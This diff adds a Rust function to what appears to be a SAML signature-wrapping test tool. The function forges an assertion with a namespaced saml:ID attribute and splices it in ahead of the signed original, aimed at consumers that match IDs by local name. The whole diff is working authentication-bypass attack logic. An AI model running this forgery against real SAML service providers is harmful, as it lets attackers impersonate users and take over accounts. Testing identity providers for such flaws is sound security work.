@@ -233,3 +233,28 @@ pub fn donor_signature_first(f: &Forge) -> Result<Forged, Skip> {
         swap,
     )
 }
+
+/// A forged copy whose ID is a namespaced `saml:ID` (no plain ID), before the signed original:
+/// for consumers that find "the element with that ID" by local name ("The Fragile Lock").
+pub fn attribute_pollution(f: &Forge) -> Result<Forged, Skip> {
+    let doc = parse(f)?;
+    let p = Parts::of(&doc)?;
+    p.need_assertion_sig()?;
+    let (evil, swap) = p.forged_assertion(None);
+    let id = p.assertion_id();
+    let polluted = evil.replacen(
+        &format!("ID=\"{id}\""),
+        &format!(
+            "saml:ID=\"{id}\" xmlns:saml=\"{}\"",
+            crate::bytes::ASSERTION_NS
+        ),
+        1,
+    );
+    if polluted == evil {
+        return Err(Skip("the Assertion's ID attribute was not found".into()));
+    }
+    forged(
+        splice(doc.src, vec![insert(p.assertion.range().start, polluted)]),
+        swap,
+    )
+}
